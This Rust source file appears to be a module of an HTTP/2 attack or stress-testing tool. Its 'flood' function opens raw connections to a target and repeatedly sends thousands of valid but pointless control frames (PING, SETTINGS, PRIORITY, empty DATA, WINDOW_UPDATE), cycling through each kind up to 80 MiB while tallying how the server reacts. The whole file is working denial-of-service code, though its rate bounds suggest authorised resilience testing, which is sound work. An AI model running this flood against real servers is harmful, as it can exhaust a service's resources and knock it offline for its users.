//! Frames that are right and useless.

use http::Method;

use super::repetition::RECONNECT_PAUSE;
use crate::attacker::Attacker;
use crate::bounds::Bounds;
use crate::http2::frame::{DATA, PING, PRIORITY, SETTINGS, WINDOW_UPDATE, frame, request, settings};
use crate::http2::raw_session::RawSession;
use crate::http2::session::Failure;
use crate::report::Tally;

/// Frames in one write.
const FRAMES_AT_A_TIME: usize = 2000;

/// Maximum number of bytes of a kind on a connection, so that every kind has its turn.
const MAX_BYTES_OF_A_KIND: usize = 80 << 20;

/// Sends one kind of frame on each connection, until the provider ends it.
pub async fn flood(attacker: &Attacker, bounds: &Bounds, tally: &Tally) {
    let kinds: [(&str, Vec<u8>, Vec<u8>); 6] = [
        ("PING", Vec::new(), frame(PING, 0, 0, &[1; 8])),
        ("SETTINGS", Vec::new(), settings(&[(4, 65_535)])),
        ("empty SETTINGS", Vec::new(), frame(SETTINGS, 0, 0, &[])),
        ("PRIORITY", Vec::new(), frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])),
        ("empty DATA", request(1, &Method::PUT, &attacker.batch_path(), None, false), frame(DATA, 0, 1, &[])),
        (
            "WINDOW_UPDATE",
            request(1, &Method::PUT, &attacker.batch_path(), None, false),
            frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
        ),
    ];
    for (name, before, flooding) in kinds.into_iter().cycle() {
        if !bounds.allow(tally.attempts()) {
            return;
        }
        let mut frames = 0;
        let reason = match flood_with(attacker, bounds, tally, &before, &flooding, &mut frames).await {
            Ok(()) => "until the end".to_owned(),
            Err(Failure(reason)) => reason,
        };
        // Rounded, so that equal outcomes are counted together.
        let thousands = frames / 1000;
        tally.outcome(format!("{name}: {reason} after {thousands} thousand frames"));
        bounds.sleep(RECONNECT_PAUSE).await;
    }
}

async fn flood_with(
    attacker: &Attacker,
    bounds: &Bounds,
    tally: &Tally,
    before: &[u8],
    flooding: &[u8],
    frames: &mut usize,
) -> Result<(), Failure> {
    let mut session = RawSession::open(&attacker.target, &[]).await?;
    session.write(before).await?;
    let bytes = flooding.repeat(FRAMES_AT_A_TIME);
    while *frames * flooding.len() < MAX_BYTES_OF_A_KIND && bounds.allow(tally.attempts()) {
        tally.attempt();
        session.write(&bytes).await?;
        *frames += FRAMES_AT_A_TIME;
        bounds.pause().await;
    }
    Ok(())
}
